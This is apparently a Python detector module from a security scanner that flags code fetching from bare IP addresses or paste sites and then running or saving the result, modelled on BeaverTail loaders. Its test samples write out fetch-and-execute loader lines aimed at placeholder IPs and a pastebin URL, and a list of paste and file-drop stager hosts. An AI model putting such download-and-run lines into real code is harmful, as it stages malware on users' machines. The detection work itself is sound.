"""Code that downloads from a raw IP address or a paste/file-drop site, and runs or saves what it
gets: BeaverTail's `http://<ip>:1224/pdown` shape and paste-site stagers."""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target, is_code
from heistguard.findings import Finding, IndicatorRef, Rule, Severity

RULE = Rule(
    id="artifacts.downloader",
    severity=Severity.MEDIUM,
    title="Code fetches from a raw IP address or a paste site",
    rationale="Published software names its servers by domain; loaders in fake coding tests and malicious "
    "packages fetch their next stage from a bare IP (BeaverTail: ports 1224, 1244, 1245) or from paste and "
    "file-drop sites. A file that does that and also spawns, evals or writes what it fetched is high.",
    attack=("T1105", "T1102"),
    references=("https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/",),
)

# Paste and anonymous file-drop hosts seen as stager hosts in public reports (2023-2025).
PASTE_SITES = (
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin.com",
    "rentry.co",
    "rentry.org",
    "controlc.com",
    "pastecode.io",
    "justpaste.it",
    "paste.rs",
    "dpaste.com",
    "transfer.sh",
    "file.io",
    "0x0.st",
    "files.catbox.moe",
    "temp.sh",
    "bashupload.com",
    "api.npoint.io",
    "jsonkeeper.com",
)
# Second-level labels of the paste sites, for a cheap first test of a URL's host.
_PASTE_LABELS = frozenset(site.rsplit(".", 2)[-2] for site in PASTE_SITES)
_DOC_NETS = tuple(ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24"))
# IPv4 hosts only: loaders use them, while IPv6 literals in code are URL-parser test vectors.
_URL = re.compile(r"://([A-Za-z0-9.\-]+)(?::(\d{2,5}))?(/[^\s'\"`)<>]*)?")
_SCHEME = re.compile(r"(?:https?|wss?|ftp)$")
_BEHAVIOUR = re.compile(
    r"\b(?:child_process|execSync|spawn|exec|eval|new Function|writeFileSync|createWriteStream|subprocess|os\.system|"
    r"Popen|urlretrieve|chmod|Start-Process|Invoke-Expression|iex)\b"
)
_FETCH = re.compile(r"\b(?:fetch|axios|request|https?\.get|urlopen|requests\.get|curl|wget|Invoke-WebRequest|got)\b")


def _host_kind(host: str) -> str | None:
    host = host.strip("[]").lower()
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        return "paste site" if any(host == s or host.endswith("." + s) for s in PASTE_SITES) else None
    # Documentation ranges count too: inert samples and defanged reports use them.
    return "raw IP address" if ip.is_global or any(ip in net for net in _DOC_NETS) else None


def _in_comment(text: str, offset: int) -> bool:
    """A URL after `#` or `//` on its line, or on a `*` line of a block comment, is documentation."""
    prefix = text[text.rfind("\n", 0, offset) + 1 : offset]
    return "#" in prefix or _LINE_COMMENT.search(prefix) is not None or prefix.lstrip().startswith(("*", "/*", "<!--"))


_LINE_COMMENT = re.compile(r"(?:^|[^:])//")


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    text = target.text
    hits = []
    seen: set[str] = set()
    for match in _URL.finditer(text):  # starts with the literal "://", which re finds fast
        host = match.group(1)
        if not (host[:1].isdigit() or host.rsplit(".", 2)[-2:][0] in _PASTE_LABELS):
            continue
        scheme = _SCHEME.search(text, max(0, match.start() - 5), match.start())
        kind = _host_kind(host) if scheme and not _in_comment(text, match.start()) else None
        url = text[scheme.start() : match.end()] if scheme else ""
        if kind and url not in seen:
            seen.add(url)
            hits.append((scheme.start() if scheme else match.start(), url, kind))
    if not hits:
        return
    acts = bool(_BEHAVIOUR.search(text)) and bool(_FETCH.search(text))
    for offset, url, kind in hits[:5]:
        yield RULE.finding(
            f"{target.name} fetches from a {kind}" + (" and runs or saves code" if acts else ""),
            [target.evidence(offset)],
            indicators=[IndicatorRef(type="url", value=url)],
            # Paste sites also serve honest "share this snippet" features; a raw IP that code fetches
            # from and then runs or saves is the loader shape.
            severity=Severity.HIGH if acts and kind == "raw IP address" else Severity.MEDIUM,
        )


def _may_apply(target: Target) -> bool:
    return is_code(target) and b"://" in target.data


DETECTOR = Detector(
    rule=RULE,
    applies=_may_apply,
    check=_check,
    triggers=(b"://",),
    bad=(
        Sample(
            "server/utils/sync.js",
            b"const { exec } = require('child_process');\nconst request = require('request');\n"
            b"request.get('http://203.0.113.41:1224/pdown', (e, r, body) => {\n"
            b"  require('fs').writeFileSync('/tmp/p.zip', body); exec('python3 /tmp/p.py');\n});\n",
        ),
        Sample(
            "get.py", b"import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/xxxxxx').read())\n"
        ),
        Sample("x.sh", b"#!/bin/sh\ncurl -fsSL http://198.51.100.8/s -o /tmp/s && chmod +x /tmp/s\n"),
    ),
    good=(
        Sample("client.js", b"fetch('https://api.github.com/repos/x/y').then(r => r.json());\n"),
        Sample("dev.js", b"app.listen(3000, () => console.log('http://127.0.0.1:3000/ and http://10.0.0.5:8080/'));\n"),
        Sample(
            "olevba.py",
            b"import subprocess\n# sample from a report: http://pastebin.com/MPc3iV6z\nsubprocess.run(['ls'])\n",
        ),
    ),
)
